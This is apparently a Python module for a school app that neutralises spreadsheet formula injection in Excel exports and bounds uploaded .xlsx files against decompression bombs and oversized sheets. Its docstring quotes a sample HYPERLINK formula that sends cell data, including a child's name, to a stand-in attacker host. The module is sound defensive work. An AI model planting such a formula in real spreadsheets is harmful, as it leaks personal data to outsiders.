"""Writing user text into .xlsx files safely: every app's Excel writer passes its cell values through here;
and reading an uploaded .xlsx within bounds (ReadLimits, open_workbook, bounded_rows) for the core's imports.

openpyxl turns any str that starts with "=" into a live formula (and "#N/A" and the like into an error
value). A mentor's talk text `=HYPERLINK("http://evil.example/?d="&B4&G4,"详情")` would then run in the
principal's Excel beside a child's name. So text is always written as text: data_type "s" (an inline
string), and, for text that starts with a formula sign (= + - @, also after tabs, CR or spaces), the
quotePrefix style as well, so that Excel keeps it text even after someone edits the cell. Numbers, dates
and None are left as they are (typed).
"""

from __future__ import annotations

import hashlib
import re
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO
from zipfile import BadZipFile, ZipFile

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

FORMULA_SIGNS = ("=", "+", "-", "@")
# The archive form and the import refuse a person's name that starts like a formula (=B2&C2).
FORMULA_NAME_MESSAGE = "姓名不能以 = + - @ 开头，请核对"


def starts_like_formula(text: str) -> bool:
    """True for text a spreadsheet could take as a formula: = + - @ first, also after tabs, CR, LF or
    spaces. Used by the exports and by the import's name checks alike."""
    return text.lstrip(" \t\r\n").startswith(FORMULA_SIGNS)


def text_cell(ws, value: str):
    """A cell holding `value` as plain text, whatever it starts with."""
    cell = WriteOnlyCell(ws)
    # Control characters are not allowed in the file format; openpyxl would refuse the whole export.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
    if starts_like_formula(value):
        cell.quotePrefix = True
    return cell


def safe_value(ws, value):
    """What to write for one value: str that openpyxl would not keep as plain text become text cells;
    every other value (numbers, dates, None, cells already built) is returned unchanged."""
    if isinstance(value, str) and (
        starts_like_formula(value) or value in ERROR_CODES or ILLEGAL_CHARACTERS_RE.search(value)
    ):
        return text_cell(ws, value)
    return value


def safe_row(ws, values: Iterable) -> list:
    """A row for ws.append() with every text value made safe (see safe_value)."""
    return [safe_value(ws, value) for value in values]


# --- Reading uploads safely --------------------------------------------------------------------------
# A small .xlsx can declare a sheet of 16,384 columns × 1,048,576 rows, hold a million one-letter shared
# strings or unpack to gigabytes; each of these tied a worker for minutes. So an upload is bounded before
# openpyxl parses anything (the zip's declared sizes, each sheet's declared <dimension>, the shared
# strings' declared count, then one streaming pass counting rows, cells and strings as they are) and again
# while rows are read. The staff import and the archive's roster import (children/importing/reading.py) read here.

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class SheetFileError(Exception):
    """The file as a whole cannot be used: one clear Chinese message, nothing written."""


@dataclass(frozen=True)
class ReadLimits:
    """How much an uploaded workbook may ask of the server. `what` names the list in the messages
    (学生名单, 教职工名单)."""

    max_data_rows: int
    what: str = "名单"
    max_upload_bytes: int = 5 * 1024 * 1024
    max_unpacked_bytes: int = 50 * 1024 * 1024
    max_columns: int = 60
    max_shared_strings: int = 200_000
    extra_rows: int = 1_000  # titles, headers, blank rows and footers around the data

    @property
    def max_rows(self) -> int:
        return self.max_data_rows + self.extra_rows

    @property
    def max_cells(self) -> int:
        return self.max_rows * self.max_columns


_CHUNK = 1024 * 1024
_DIMENSION = re.compile(rb"<(?:[\w.-]+:)?dimension\b[^>]*?\bref\s*=\s*[\"']([^\"']*)[\"']")
_SST = re.compile(rb"<(?:[\w.-]+:)?sst\b([^>]*)>")
_COUNT_ATTRS = re.compile(rb"\b(?:count|uniqueCount)\s*=\s*[\"'](\d+)[\"']")
_ROW = re.compile(rb"<(?:[\w.-]+:)?row[\s>/]")
_CELL = re.compile(rb"<(?:[\w.-]+:)?c[\s>/]")
_SHARED_STRING = re.compile(rb"<(?:[\w.-]+:)?si[\s>/]")
_REF = re.compile(r"\$?([A-Za-z]{1,3})\$?(\d{1,7})")


def check_upload(name: str, size: int, *, limits: ReadLimits) -> None:
    """The checks made before the file is stored: .xlsx only, not empty, not over the size cap."""
    if not name.lower().endswith(".xlsx"):
        raise SheetFileError("只能导入 .xlsx 格式的 Excel 文件。若是 .xls 或 WPS 的 .et 文件，请先“另存为” .xlsx。")
    if size > limits.max_upload_bytes:
        raise SheetFileError(
            f"文件过大（{size / 1024 / 1024:.1f} MB），请不超过 {limits.max_upload_bytes // 1024 // 1024} MB。"
        )
    if size == 0:
        raise SheetFileError("文件是空的。")


def file_sha256(path: str | Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(_CHUNK), b""):
            digest.update(chunk)
    return digest.hexdigest()


def too_big(what: str, limits: ReadLimits) -> SheetFileError:
    return SheetFileError(
        f"{what}，系统无法处理。请只保留{limits.what}所在的工作表和列，删除多余的行、列和格式后重试。"
    )


def open_workbook(source: str | Path | BinaryIO, *, limits: ReadLimits):
    """The workbook in read-only mode, once its declared and real sizes are within `limits`."""
    from openpyxl import load_workbook

    check_limits(source, limits)
    try:
        return load_workbook(source, read_only=True, data_only=True)
    except (BadZipFile, KeyError, OSError, ValueError, TypeError) as e:
        raise SheetFileError("无法读取该文件：请上传用 Excel 或 WPS 保存的 .xlsx 文件（不支持 .xls 或 .csv）。") from e
    except Exception as e:  # openpyxl raises assorted errors on broken files
        raise SheetFileError("无法读取该文件：文件已损坏或不是 .xlsx 格式。") from e


def bounded_rows(sheet, *, limits: ReadLimits) -> Iterator[tuple]:
    """A worksheet's rows as value tuples, at most `limits.max_columns` wide; refuses a sheet longer than
    `limits.max_rows` (a file without a <dimension>, or with a false one, is bounded here too)."""
    sheet.reset_dimensions()
    rows = sheet.iter_rows(values_only=True, max_col=limits.max_columns, max_row=limits.max_rows + 1)
    for number, row in enumerate(rows, start=1):
        if number > limits.max_rows:
            raise too_big(f"工作表“{sheet.title}”超过 {limits.max_rows} 行（含空行）", limits)
        yield tuple(row)


def worksheets(workbook) -> Iterator:
    """The workbook's worksheets (chart sheets have no rows)."""
    for sheet in workbook.worksheets:
        if hasattr(sheet, "iter_rows"):
            yield sheet


def _column_number(letters: str) -> int:
    number = 0
    for letter in letters.upper():
        number = number * 26 + ord(letter) - ord("A") + 1
    return number


def _declared_extent(ref: str) -> tuple[int, int] | None:
    """(columns, rows) of a <dimension ref="A1:XFD1048576">, None when it cannot be read."""
    ends = [_REF.fullmatch(part.strip()) for part in ref.split(":")]
    if not ends or not all(ends):
        return None
    return _column_number(ends[-1].group(1)), int(ends[-1].group(2))


def check_limits(source, limits: ReadLimits) -> None:
    try:
        archive = ZipFile(source)
    except (BadZipFile, OSError, ValueError):
        return  # load_workbook gives the clear message
    try:
        members = archive.infolist()
        if sum(item.file_size for item in members) > limits.max_unpacked_bytes:
            raise SheetFileError(
                f"文件内容过大（解压后超过 {limits.max_unpacked_bytes // 1024 // 1024} MB），"
                "请删除无关的工作表、图片后重试。"
            )
        rows = cells = strings = 0
        for item in members:
            if not item.filename.lower().endswith(".xml"):
                continue
            r, c, s = _scan_member(archive, item, limits)
            rows, cells, strings = rows + r, cells + c, strings + s
            if rows > limits.max_rows or cells > limits.max_cells:
                raise too_big(f"表格内容过多（超过 {limits.max_rows} 行或 {limits.max_cells} 个单元格）", limits)
            if strings > limits.max_shared_strings:
                raise too_big(f"表格中的文字条目过多（超过 {limits.max_shared_strings} 条）", limits)
    except (BadZipFile, OSError, EOFError, zlib.error, NotImplementedError, RuntimeError):
        return  # a broken member: load_workbook gives the clear message
    finally:
        archive.close()
        if hasattr(source, "seek"):
            source.seek(0)


def _scan_member(archive: ZipFile, item, limits: ReadLimits) -> tuple[int, int, int]:
    rows = cells = strings = 0
    carry = b""
    first = True
    with archive.open(item) as stream:
        while True:
            chunk = stream.read(_CHUNK)
            data = carry + chunk
            if first:
                first = False
                _check_declarations(data[:65536], limits)
            if chunk:
                cut = data.rfind(b"<")  # every pattern starts with "<": none spans the cut
                if cut <= 0 or len(data) - cut > _CHUNK:
                    cut = len(data)
                data, carry = data[:cut], data[cut:]
            pieces = _ROW.split(data)
            rows += len(pieces) - 1
            for piece in pieces:
                in_row = len(_CELL.findall(piece))
                if in_row > limits.max_columns:
                    raise too_big(f"工作表中有一行超过 {limits.max_columns} 列", limits)
                cells += in_row
            strings += len(_SHARED_STRING.findall(data))
            if rows > limits.max_rows or cells > limits.max_cells or strings > limits.max_shared_strings:
                break  # the caller says which
            if not chunk:
                break
    return rows, cells, strings


def _check_declarations(head: bytes, limits: ReadLimits) -> None:
    found = _DIMENSION.search(head)
    if found:
        extent = _declared_extent(found.group(1).decode("ascii", "replace"))
        if extent is not None:
            columns, rows = extent
            if columns > limits.max_columns:
                raise too_big(f"工作表的范围有 {columns} 列（最多 {limits.max_columns} 列）", limits)
            if rows > limits.max_rows:
                raise too_big(f"工作表的范围有 {rows} 行（最多 {limits.max_rows} 行）", limits)
    found = _SST.search(head)
    if found:
        declared = max((int(n) for n in _COUNT_ATTRS.findall(found.group(1))), default=0)
        if declared > limits.max_shared_strings:
            raise too_big(f"表格中的文字条目过多（{declared} 条，最多 {limits.max_shared_strings} 条）", limits)
